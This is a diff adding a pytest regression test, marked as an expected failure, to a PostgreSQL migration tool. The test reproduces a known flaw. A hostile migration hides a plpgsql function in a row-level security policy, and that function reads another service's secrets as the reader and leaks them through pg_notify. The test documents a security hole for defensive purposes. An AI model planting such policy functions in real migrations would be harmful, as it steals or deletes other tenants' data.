@@ -28,6 +28,7 @@ from .conftest import (
     drop_roles,
     migrator_params,
     service_env,
+    service_params,
     unique_topology_text,
 )
 
@@ -233,3 +234,46 @@ def test_commit_inside_a_procedure_does_not_split_the_file(setup: Setup,
     with psycopg.connect(**setup.superuser) as conn:
         assert conn.execute("SELECT to_regclass(%s)",
                             [f"{ident(setup.me.schema)}.early"]).fetchone() == (None,)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "BREAK, not fixed (design-level): a row-level security policy (or a view) on a "
+    "table another service may read runs the schema owner's SECURITY INVOKER code "
+    "with the *reader's* privileges. A hostile migration of service A plants a "
+    "plpgsql function (late-bound static SQL, so nothing is resolved at CREATE time) "
+    "in A's policy; when service B reads A's table, the function reads B's private "
+    "data as B and sends it to A's LISTENing runtime role with pg_notify (it could as "
+    "well DELETE B's rows). The fix is to revoke PUBLIC EXECUTE on functions in "
+    "service schemas (provisioning default privileges, and _FOREIGN_GRANTS no longer "
+    "exempting PUBLIC EXECUTE) or to refuse policies/views that call owner functions "
+    "on exposed tables; both touch the cross-service grants another helper is "
+    "rewriting."))
+def test_reader_does_not_run_the_exposing_services_code(setup: Setup, tmp_path: Path) -> None:
+    other_secrets = ident(setup.other.schema, "secrets")
+    with psycopg.connect(**setup.superuser, autocommit=True) as conn:
+        conn.execute(sql.SQL("SET ROLE {}").format(sql.Identifier(setup.other.owner_role)))
+        conn.execute(f"CREATE TABLE {other_secrets} (v text)")
+        conn.execute(f"INSERT INTO {other_secrets} VALUES ('reader-private-token')")
+    migrate(tmp_path, setup.me,
+            "CREATE TABLE accounts (id int);\n"
+            "INSERT INTO accounts VALUES (1);\n"
+            "CREATE FUNCTION visible() RETURNS boolean LANGUAGE plpgsql AS $$\n"
+            "DECLARE loot text;\n"
+            "BEGIN\n"
+            f"  SELECT string_agg(v, ',') INTO loot FROM {other_secrets};\n"
+            "  PERFORM pg_catalog.pg_notify('loot', loot);\n"
+            "  RETURN true;\n"
+            "EXCEPTION WHEN insufficient_privilege OR undefined_table THEN RETURN true;\n"
+            "END $$;\n"
+            "ALTER TABLE accounts ENABLE ROW LEVEL SECURITY;\n"
+            "CREATE POLICY everyone ON accounts USING (visible());\n")
+    received: list[str] = []
+    with psycopg.connect(**service_params(setup.admin, setup.me), autocommit=True) as spy:
+        spy.add_notify_handler(lambda n: received.append(n.payload))
+        spy.execute("LISTEN loot")
+        with psycopg.connect(**service_params(setup.admin, setup.other),
+                             autocommit=True) as reader:
+            reader.execute(sql.SQL("SELECT count(*) FROM {}").format(
+                sql.Identifier(setup.me.schema, "accounts")))
+        spy.execute("SELECT 1")
+    assert "reader-private-token" not in received
